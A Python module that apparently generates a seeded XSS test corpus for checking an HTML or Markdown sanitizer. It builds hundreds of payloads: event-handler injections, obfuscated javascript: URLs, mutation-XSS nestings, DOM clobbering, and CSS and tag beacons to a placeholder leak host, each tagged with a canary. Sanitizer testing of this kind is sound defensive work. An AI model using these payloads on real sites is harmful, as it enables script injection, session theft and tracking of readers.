"""What is written to run code in a page, or to tell others who reads it, in families; each piece names itself if it works.

Where code is to run stands `@js@`, where an address is to be asked `@leak@`, and a picture, which may be asked for, is `@picture@`.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape
from itertools import product
from typing import Final

LEAK: Final = "leak.invalid"  # nobody may ask it for anything
PICTURES: Final = "pictures.invalid"


@dataclass(frozen=True, slots=True, kw_only=True)
class Vector:
    """A piece that means harm, and the number by which it tells that it worked."""

    number: int
    family: str
    markup: str


def vectors(*, seed: int, count: int) -> tuple[Vector, ...]:
    """Return *count* vectors: as many of each family as there are, as far as that goes; the rest is put together at random."""
    chance = random.Random(seed)  # noqa: S311 - what is repeated must be the same
    written = [
        (family, piece) for family, make in FAMILIES.items() for piece in _some(make(chance), chance, count // 12)
    ]
    while len(written) < count:
        written.append(("tangles", _tangle(chance)))
    return tuple(
        Vector(number=number, family=family, markup=armed(markup, number))
        for number, (family, markup) in enumerate(written)
    )


def armed(markup: str, number: int) -> str:
    """Return *markup* with what is to run and to be asked put in."""
    markup = markup.replace("@leak@", f"https://{LEAK}/{number}")
    return markup.replace("@picture@", f"https://{PICTURES}/{number}.png").replace("@js@", f"trap({number})")


def _some(pieces: Iterator[str], chance: random.Random, most: int) -> list[str]:
    found = list(dict.fromkeys(pieces))
    return found if len(found) <= most else chance.sample(found, most)


# ---------------------------------------------------------------- handlers

_TAGS = (
    "img", "image", "a", "p", "div", "body", "html", "input", "video", "audio", "source", "track", "details", "iframe", "object",
    "embed", "svg", "math", "marquee", "select", "textarea", "button", "form", "style", "link", "script", "table", "td", "br",
    "x-made-up", "picture", "dialog", "meter", "frameset", "bgsound", "keygen", "isindex", "foreignobject", "animate", "portal",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart", "onbegin", "onloadstart",
    "onanimationstart", "onpointerenter", "onwheel", "oncopy", "onpageshow", "onhashchange", "onmessage", "onbeforetoggle",
    "onscrollend", "onsecuritypolicyviolation", "onunhandledrejection", "ontransitionend", "oncontentvisibilityautostatechange",
)  # fmt: skip
_QUOTES = ("{name}={value}", '{name}="{value}"', "{name}='{value}'", "{name} =\n{value}", "{name}=`{value}`")
_GAPS = (" ", "/", "\n", "\t", "\x0c", "/ /", ' title="a>b" ', " x=''/", ' "" ')
_NAMES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    lambda name: name[:3] + "\x00" + name[3:],
    lambda name: "\x0b" + name,
    lambda name: "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(name)),
)


def _handlers(chance: random.Random) -> Iterator[str]:
    yield "<img src=x onerror=@js@>"
    for tag, event in product(_TAGS, _EVENTS):
        attribute = chance.choice(_QUOTES).format(name=chance.choice(_NAMES)(event), value="@js@")
        gap, ending = chance.choice(_GAPS), chance.choice((">", "/>", ">x</" + tag + ">", "//", ""))
        yield f"<{tag}{gap}src=x{chance.choice(_GAPS)}open autofocus tabindex=1 {attribute}{ending}"


# ---------------------------------------------------------------- addresses

_CARRIERS = (
    "<a href=§>x</a>",
    "<a xlink:href=§ formaction=§ ping=§>x</a>",
    "<a href=https://x.invalid/ ping=§>x</a>",
    "<area href=§><map name=m><area shape=default href=§></map><img usemap=#m src=@picture@>",
    "<img src=§>",
    "<img srcset=§ sizes=1px>",
    "<img src=@picture@ lowsrc=§ dynsrc=§ longdesc=§ data-x=§>",
    "<img data-src=§ data-original=§>",
    "<picture><source srcset=§><img src=§></picture>",
    "<video poster=§ src=§></video>",
    "<audio src=§ autoplay><source src=§></audio>",
    "<iframe src=§></iframe>",
    "<iframe data-src=§ src=§ onload=@js@></iframe>",
    "<frameset><frame src=§></frameset>",
    "<object data=§ codebase=§ classid=§><param name=movie value=§></object>",
    "<embed src=§ pluginspage=§>",
    "<form action=§><button formaction=§>x</button><input type=image src=x formaction=§></form>",
    "<table background=§><td background=§>x</table>",
    "<body background=§>x",
    "<link rel=stylesheet href=§><link rel=prefetch href=§><link rel=icon href=§>",
    "<script src=§></script><script type=module src=§></script>",
    "<base href=§><a href=x>x</a><img src=x>",
    "<blockquote cite=§>x</blockquote><q cite=§>y</q><del cite=§>z</del>",
    "<svg><a xlink:href=§ href=§><text y=9>x</text></a><image href=§ xlink:href=§ /><use href=§ /></svg>",
    "<svg><script href=§ xlink:href=§></script><feImage href=§ /></svg>",
    "<math href=§ xlink:href=§><mtext>x</mtext></math>",
    "<meta http-equiv=refresh content='0;url=§'>",
    "<applet code=§ archive=§></applet><bgsound src=§><portal src=§></portal>",
    "[x](§) ![y](§) <§>",
    '[x]: § "t"\n\n[x] ![x]',
)
_SCHEMES = (
    "javascript:@js@",
    "JaVaScRiPt:@js@",
    " \x01javascript:@js@",
    "java\tscript:@js@",
    "java\nscript\r:@js@",
    "java&Tab;script&colon;@js@",
    "&#106;&#x61;vascript&#0000058;@js@",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;@js@",
    "javascript://x%0a@js@",
    "javascript:/**/@js@//https://x.invalid/",
    "jav\x00ascript:@js@",
    "\u00a0javascript:@js@",
    "\ufeffjavascript:@js@",
    "javascript\u200b:@js@",
    "view-source:javascript:@js@",
    "feed:javascript:@js@",
    "vbscript:@js@",
    "livescript:@js@",
    "data:text/html,<script>@js@</script>",
    "data:text/html;base64,@base64@",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@js@'/>",
    "data:text/javascript,@js@",
    "data:text/css,*{background:url(@leak@)}",
    "blob:https://x.invalid/1",
    "filesystem:https://x.invalid/1",
    "//javascript:@js@",
    "https:javascript:@js@",
    "https://x.invalid/\"onmouseover=@js@ x='",
    "https://x.invalid/'onerror='@js@",
    "https://x.invalid/`onerror=`@js@",
)


def _addresses(_: random.Random) -> Iterator[str]:
    script = base64.b64encode(b"<script>parent.leaked=1;document.write('<img src=https://leak.invalid/b>')</script>")
    for carrier, scheme, quote in product(_CARRIERS, _SCHEMES, ("", '"', "'")):
        address = scheme.replace("@base64@", script.decode())
        yield carrier.replace("§", f"{quote}{address}{quote}" if "'§'" not in carrier else address)


# ---------------------------------------------------------------- what asks others


def _askers(_: random.Random) -> Iterator[str]:
    yield from (
        "<link rel=stylesheet href=@leak@>",
        "<link rel=preload as=image href=@leak@><link rel=dns-prefetch href=@leak@><link rel=preconnect href=@leak@>",
        "<script src=@leak@></script>",
        "<script type=module>import '@leak@'</script>",
        '<script type=importmap>{}</script><script type=speculationrules>{"prefetch":[{"urls":["@leak@"]}]}</script>',
        "<object data=@leak@></object>",
        "<embed src=@leak@>",
        "<iframe src=@leak@></iframe>",
        "<iframe srcdoc='<img src=@leak@>'></iframe>",
        "<iframe srcdoc='&lt;script&gt;@js@&lt;/script&gt;'></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.@js@&lt;/script&gt;' src=https://www.youtube.com/embed/x></iframe>",
        "<meta http-equiv=refresh content='0;url=@leak@'>",
        "<meta http-equiv='refresh' content='0;url=javascript:@js@'>",
        '<meta http-equiv=Content-Security-Policy content="script-src *"><script>@js@</script>',
        "<meta http-equiv=set-cookie content=x=1><meta name=referrer content=unsafe-url><img src=@picture@>",
        "<base href=@leak@><img src=x.png><a href=y>y</a>",
        "<base target=_blank href=@leak@/><link rel=stylesheet href=z.css>",
        "<input type=image src=@leak@>",
        "<body background=@leak@>",
        "<table background=@leak@><tr><td background=@leak@>x</table>",
        "<svg><image href=@leak@ width=9 height=9 /></svg>",
        "<svg><use href=@leak@#x /></svg>",
        "<svg><filter id=f><feImage href=@leak@ /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
        "<svg><style>@import url(@leak@)</style></svg>",
        "<video><track default kind=captions src=@leak@></video>",
        "<audio src=@leak@ autoplay preload=auto></audio>",
        "<video src=@leak@ autoplay preload=auto muted></video>",
        "<form action=@leak@ id=f><input name=q value=1></form><script>f.submit()</script>",
        "<a href=https://x.invalid/ ping=@leak@ autofocus>x</a>",
        "<a href=https://x.invalid/ target=_blank rel=opener download=@leak@>x</a>",
        "<img src=@picture@ style='background:url(@leak@)'>",
        "<img src=@picture@ crossorigin=use-credentials attributionsrc=@leak@ browsingtopics>",
        "<iframe src='https://www.youtube.com@leak.invalid/embed/x'></iframe>",
        "<iframe src='https://www.youtube.com/embed/../redirect?q=@leak@'></iframe>",
        "<iframe src='https://www.youtube.com/embed/%2e%2e/redirect' allow='camera *' credentialless csp=x></iframe>",
        "<noscript><img src=@picture@></noscript>",
        "<!--[if true]><script>@js@</script><![endif]-->",
        "<?xml-stylesheet type='text/css' href='@leak@'?><p>x",
        "<!DOCTYPE html SYSTEM '@leak@'><p>x",
        "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='@leak@'/></x>",
        "<template shadowrootmode=open><script>@js@</script><style>@import '@leak@'</style></template>",
        "<div><template shadowrootmode=open><img src=x onerror=@js@></template></div>",
    )


_STYLES = (
    "background:url(@leak@)",
    "background:url('@leak@')",
    "background-image:image-set('@leak@' 1x)",
    "list-style:url(@leak@) inside;display:list-item",
    "content:url(@leak@)",
    "cursor:url(@leak@),auto",
    "width:expression(@js@)",
    "behavior:url(@leak@)",
    "-moz-binding:url(@leak@)",
    "background:\\75\\72\\6c(@leak@)",
    "back/**/ground:u/**/rl(@leak@)",
    "border-image:url(@leak@) 1;mask:url(@leak@)",
    "--x:url(@leak@);background:var(--x)",
    "position:fixed;inset:0;z-index:9;background:url(@leak@)",
)


def _styles(_: random.Random) -> Iterator[str]:
    for style in _STYLES:
        for tag in ("p", "div", "td", "a href=https://x.invalid/", "font", "body", "svg", "li"):
            yield f'<{tag} style="{style}">x'
        yield f"<style>*{{{style}}}</style><p>x"
        yield f"<svg><style>*{{{style}}}</style><text y=9>x</text></svg>"
        yield f"<style media=all>@font-face{{font-family:f;src:url(@leak@)}}p{{font-family:f;{style}}}</style><p>x"
    yield from (
        "<style>@import '@leak@';</style>",
        "<style>@import url(@leak@) screen;</style>",
        "<style><!--</style><script>@js@</script>-->",
        "<style>@charset 'utf-7';+AH0APA-script+AD4-</style>",
        "<style>p{animation:x 1s}@keyframes x{}</style><p onanimationstart=@js@>x",
        "<style>a[href^=h]{background:url(@leak@)}</style><a href=https://x.invalid/>x</a>",
    )


# ---------------------------------------------------------------- other trees, other parsers


def _foreign(_: random.Random) -> Iterator[str]:
    inner = (
        "<script>@js@</script>",
        "<img src=x onerror=@js@>",
        "<iframe onload=@js@></iframe>",
        "<a href=javascript:@js@>x</a>",
    )
    for tag, piece in product(("foreignObject", "desc", "title", "metadata", "g", "switch", "style", "script"), inner):
        yield f"<svg><{tag}>{piece}</{tag}></svg>"
        yield f"<svg><{tag}><![CDATA[</{tag}>{piece}]]></{tag}></svg>"
        yield f"<svg><{tag}>{escape(piece)}</{tag}></svg>"
    for tag, piece in product(
        ("mtext", "mi", "mglyph", "malignmark", "annotation-xml", "semantics", "maction", "mstyle"), inner
    ):
        yield f"<math><{tag}>{piece}</{tag}></math>"
        yield f"<math><{tag} encoding='text/html'>{piece}</{tag}></math>"
        yield f"<math><{tag} encoding=application/xhtml+xml><svg>{piece}</svg></{tag}></math>"
    yield from (
        "<svg onload=@js@>",
        "<svg/onload=@js@//",
        "<svg><script>@js@</script>",
        "<svg><script>&#x74;rap(0)</script>",
        "<svg><script href=data:,@js@ />",
        "<svg><animate onbegin=@js@ attributeName=x dur=1s>",
        "<svg><set onbegin=@js@ attributeName=x>",
        "<svg><a><animate attributeName=href values=javascript:@js@ /><text y=20>x</text></a></svg>",
        "<svg><a><set attributeName=xlink:href to=javascript:@js@ /><text y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='@js@'/></svg>#x\"/>",
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml'><h:script>@js@</h:script></svg>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@js@</x:script>",
        "<math><maction actiontype=statusline#@leak@ xlink:href=javascript:@js@>x</maction></math>",
        "<math><mi xlink:href=javascript:@js@ href=javascript:@js@>x</mi></math>",
    )


_RAW = ("noscript", "style", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "script", "template", "select", "option",
        "plaintext", "listing", "svg", "math", "table", "caption", "col", "frameset", "button", "object", "marquee")  # fmt: skip
_HIDDEN = "<img src=x onerror=@js@>"


def _mutations(_: random.Random) -> Iterator[str]:
    for outer, inner in product(_RAW, _RAW):
        yield f'<{outer}><{inner}><p title="</{inner}></{outer}>{_HIDDEN}">'
        yield f"<svg><{outer}><{inner}></{outer}><a title='</{inner}>{_HIDDEN}'>"
        yield f'<math><mtext><{outer}><mglyph><{inner}><!--</{inner}><img title="--&gt;{escape(_HIDDEN)}">'
    for tag in _RAW:
        yield f"<{tag}><!--</{tag}>{_HIDDEN}-->"
        yield f"<{tag}><a title='</{tag}>{_HIDDEN}'></{tag}>"
        yield f"<form><math><mtext></form><form><mglyph><{tag}></math>{_HIDDEN}"
        yield f"<math><mtext><table><mglyph><{tag}><!--</{tag}><img title='--&gt;{escape(_HIDDEN)}'>"
        yield f"<math><annotation-xml encoding='text/html'><{tag}>{_HIDDEN}</{tag}></annotation-xml></math>"
        yield f"<{tag}>{escape(_HIDDEN)}</{tag}>"
    yield from (
        '<svg></p><style><a id="</style><img src=1 onerror=@js@>">',
        "<math></br><style><!--</style><img src onerror=@js@>",
        "<a><table><a><img src onerror=@js@></table>",
        "<p><svg><desc><p></svg><style><img title='</style><img src onerror=@js@>'>",
        "<form id=a></form><form form=a><input name=attributes><img src onerror=@js@></form>",
        "<abbr title='`<img src=x onerror=@js@>`'>x</abbr>",
        '<img alt="``onerror=@js@" src=x>',
        "<p title='&#x22;&gt;&lt;img src onerror=@js@&gt;'>x</p>",
        "<ruby><rt><rp><style><img src='</style><img src onerror=@js@>'>",
        "<dl><dd><math><ms><style></dd><img title='</style><img src onerror=@js@>'>",
    )


# ---------------------------------------------------------------- the page's own script, tokens, Markdown

_KNOWN = ("filter", "nothing", "said", "main", "categories", "categories-title", "location", "document", "body", "cookie",
          "getElementById", "querySelector", "querySelectorAll", "documentElement", "head", "addEventListener", "Intl", "Date",
          "navigator", "attributes", "parentNode", "children", "currentScript", "defaultView", "trap", "URL", "Map")  # fmt: skip


def _clobbers(_: random.Random) -> Iterator[str]:
    for name in _KNOWN:
        yield f"<a id={name} name={name} href='javascript:@js@'>x</a><a id={name}>y</a>"
        yield f"<form id={name} name={name}><input name=parentNode><output id={name}>z</form>"
        yield f"<img name={name} src=@picture@><iframe name={name} srcdoc='<script>@js@</script>'></iframe>"
        yield f"<object id={name} name={name}></object><embed name={name}><div is={name} class='js copy tree' slot={name}>x</div>"


def _tokens(_: random.Random) -> Iterator[str]:
    for piece in ("<script>@js@</script>", _HIDDEN, "<svg onload=@js@>", "<a href=javascript:@js@>x</a>"):
        yield piece
        yield piece.replace("<", "<\x00")
        yield piece.replace("<", "\x00<")
        yield piece.replace("script", "scr\x00ipt")
        yield piece.replace(" ", "\x00 ")
        yield piece.replace("<", "\uff1c").replace(">", "\uff1e")
        yield piece.replace("<", "\u2039")
        yield piece.replace("i", "ı").replace("s", "ſ")
        yield escape(piece)
        yield escape(escape(piece))
        yield piece.replace("<", "&lt")
        yield piece.replace("<", "&#60;").replace(">", "&#62;")
        yield piece.replace("<", "&#x0000003c;")
        yield piece.replace("<", "\\u003c").replace(">", "\\x3e")
        yield piece.replace("<", "%3C").replace(">", "%3E")
        yield piece.replace("<", "+ADw-").replace(">", "+AD4-")
        yield piece.replace("<", "\x1b$B!c\x1b(B")
        yield piece.replace("<", "\x1b(J<\x1b(B")
        yield f"\x1b(J\\{piece}"
        yield piece.replace("<", "\u2028<")
        yield f"<{piece}<<{piece}"
        yield piece[:-1]
        yield f"<!--{piece}"
        yield f"<!-->{piece}-->"
        yield f"<!--->{piece}-->"
        yield f"<!--x--!>{piece}-->"
        yield f"<!-{piece}->"
        yield f"<!{piece}>"
        yield f"<?{piece}?>"
        yield f"</{piece}>"
        yield f"<![CDATA[{piece}]]>"
        yield f"<![CDATA[]]{piece}>"
        yield f"]]>{piece}"
        yield f"<%{piece}%>"
        yield f"{{{{{piece}}}}}"
        yield f"<p title='{piece.replace(chr(39), '')}'>x"
        yield f"<p title={piece}>x"
        yield f'<p "{piece}">x'
        yield f'<p ="{piece}">x'
        yield f"<a href='x' <{piece}>x</a>"
        yield f"<scr{piece}ipt>{piece}</scr{piece}ipt>"
        yield f"<p\u00a0{piece}>"
        yield f"\ufeff{piece}"
        yield f"{piece}\r\n\r{piece}\x85{piece}\u2029"
        yield f"<div>{'<b>' * 150}{piece}{'</b>' * 150}</div>"
        yield f"{'<table><td>' * 40}{piece}"
        yield f"{'x' * 5000}{piece}"


def _markdown(_: random.Random) -> Iterator[str]:
    for scheme in _SCHEMES:
        yield f"[x]({scheme}) ![y]({scheme}) <{scheme}>"
        yield f'[x](<{scheme}>) ![y](<{scheme}> "t")\n\n[z]\n\n[z]: <{scheme}>'
    for piece in ("<script>@js@</script>", _HIDDEN, "<svg onload=@js@>"):
        yield f"# a\n\n{piece}\n\nb **c** {piece}"
        yield f"```\n{piece}\n```\n\n`{piece}`\n\n    {piece}"
        yield f'```html"onmouseover=@js@ x="\n{piece}\n```'
        yield f"| a | {piece} |\n|---|---|\n| {piece} | b |"
        yield f"- {piece}\n\n> {piece}\n\n1. {piece}"
        yield f"[{piece}](https://x.invalid/ \"{piece.replace(chr(34), '')}\") ![{piece}](@picture@ '{piece}')"
        yield '![" onerror=@js@ x="](@picture@ \'" onerror=@js@ x=\')'
        yield f"\\{piece} *{piece}* ~~{piece}~~ <b>{piece}"
        yield f"<div>\n\n{piece}\n\n</div>\n\n<!--\n\n{piece}\n\n-->"
        yield f"<https://x.invalid/{piece}> https://x.invalid/{piece}"
        yield "a&#x5d;(javascript:@js@) [b](javascript&colon;@js@) [c](javas&#99;ript:@js@)"


# ---------------------------------------------------------------- at random

_PARTS = (
    "<svg>", "</svg>", "<math>", "</math>", "<mtext>", "<mglyph>", "<annotation-xml encoding=text/html>", "<foreignObject>", "<desc>",
    "<style>", "</style>", "<title>", "</title>", "<textarea>", "</textarea>", "<noscript>", "</noscript>", "<template>",
    "</template>", "<xmp>", "</xmp>", "<iframe>", "</iframe>", "<select>", "</select>", "<table>", "</table>", "<td>", "<caption>",
    "<form>", "</form>", "<a href=https://x.invalid/>", "</a>", "<p>", "</p>", "</br>", "<b>", "</b>", "<pre>", "<li>", "<!--", "-->",
    "--!>", "<![CDATA[", "]]>", "\x00", "&lt;", "&gt;", "&quot;", "'", '"', "`", '<p title="', "<img alt='", '">', "'>", "<ruby>",
    "<rt>", "<button>", "<object>", "<frameset>", "<body>", "<plaintext>", "<script>", "</script>", "\n\n", "- ", "```\n", "[x](", ")",
)  # fmt: skip
_ARMS = (
    _HIDDEN,
    "<script>@js@</script>",
    "<svg onload=@js@>",
    escape(_HIDDEN),
    "<a href=javascript:@js@>x</a>",
    " onmouseover=@js@ ",
)


def _tangle(chance: random.Random) -> str:
    parts = chance.choices(_PARTS, k=chance.randint(3, 14))
    for _ in range(chance.randint(1, 3)):
        parts.insert(chance.randrange(len(parts) + 1), chance.choice(_ARMS))
    return "".join(parts)


FAMILIES: Final[dict[str, Callable[[random.Random], Iterator[str]]]] = {
    "handlers": _handlers,
    "addresses": _addresses,
    "askers": _askers,
    "styles": _styles,
    "foreign": _foreign,
    "mutations": _mutations,
    "clobbers": _clobbers,
    "tokens": _tokens,
    "markdown": _markdown,
}
